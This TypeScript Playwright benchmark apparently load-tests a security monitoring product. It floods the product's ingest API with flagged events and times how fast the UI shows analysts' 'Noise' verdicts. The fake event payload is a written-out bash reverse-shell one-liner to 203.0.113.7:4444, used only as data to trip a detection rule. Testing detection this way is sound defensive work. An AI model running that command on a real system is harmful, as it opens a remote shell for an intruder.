// Ten thousand page-level flags at once, and one thing done about one of them: a real click on its verdict until the verdict is painted.
import type { Page } from '@playwright/test'
import { key, type Product, until } from '../product.ts'
import { actionStarted, ndjson } from './agent-events.ts'
import type { Figure } from './figure.ts'
import { ingestClient } from './ingest-client.ts'
import { percentile } from './percentile.ts'

/** "A shell whose input and output are a network connection", of our own pack. */
const rule = '5b82485b-b175-5081-b742-ed77efffe94a'
const command = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
const perPost = 200
const clicks = 20

/** One flag a session. */
export async function flagFloodFigures(
  product: Product,
  page: Page,
  sessions: readonly string[],
  say: (line: string) => void,
): Promise<Figure[]> {
  const before = await flagsOf(product)
  const client = ingestClient(product.url, key, 4)
  const sentMs = performance.now()
  for (let from = 0; from < sessions.length; from += perPost) {
    const some = sessions.slice(from, from + perPost)
    await client.send(
      ndjson(some.map((session) => actionStarted(session, 'c-flood', command, Date.now()))),
      some.length,
    )
  }
  client.close()
  await until(
    `${sessions.length} flags are raised`,
    async () => (await flagsOf(product)) >= before + sessions.length,
    120_000,
  )
  const floodMs = performance.now() - sentMs
  say(`ui: ${sessions.length} flags raised within ${(floodMs / 1_000).toFixed(1)} s`)
  await page.goto(`${product.url}/rules/rule?${new URLSearchParams({ id: rule })}`)
  const times = await judgeClicks(page)
  say(`ui: verdicts painted in ${times.map((ms) => ms.toFixed(0)).join(', ')} ms`)
  const figure = (name: string, value: number): Figure => ({
    group: 'ui',
    name,
    value,
    unit: 'ms',
    aim: { atMost: 500 },
    note: `${sessions.length} flags of as many sessions; ${clicks} real clicks on "Noise" until the verdict, durable, is painted`,
  })
  return [
    figure('flood_action_p50_ms', percentile(times, 50)),
    figure('flood_action_ms', Math.max(...times)),
    {
      group: 'ui',
      name: 'flood_flags_raised_per_s',
      value: (sessions.length * 1_000) / floodMs,
      unit: 'events/s',
      note: 'from the first call sent until the last flag was told',
    },
  ]
}

async function flagsOf(product: Product): Promise<number> {
  return (await product.json<{ rule: { flags: number } }>(`/api/rules/${rule}`)).rule.flags
}

/** From the click's own time stamp until the button of that flag was painted as pressed: the server has said so. */
async function judgeClicks(page: Page): Promise<number[]> {
  await page.locator('[data-flag]').first().waitFor()
  await page.evaluate(() => {
    document.addEventListener(
      'click',
      (event) => {
        const id = (event.target as Element).closest<HTMLElement>('[data-flag]')?.dataset.flag
        if (id === undefined) return
        const look = () => {
          const pressed = document.querySelector(`[data-flag="${CSS.escape(id)}"] [aria-pressed=true]`)
          if (!pressed) return void requestAnimationFrame(look)
          const channel = new MessageChannel()
          channel.port1.onmessage = () => {
            ;(window as unknown as { benchJudged?: number }).benchJudged = performance.now() - event.timeStamp
          }
          channel.port2.postMessage(null)
        }
        look()
      },
      { capture: true },
    )
  })
  const times: number[] = []
  for (let n = 0; n < clicks; n += 1) {
    await page.locator('[data-flag]').nth(n).getByRole('button', { name: 'Noise' }).click()
    times.push(
      await until('the verdict is painted', () =>
        page.evaluate(() => {
          const holder = window as unknown as { benchJudged?: number | undefined }
          const ms = holder.benchJudged
          holder.benchJudged = undefined
          return ms
        }),
      ),
    )
  }
  return times
}
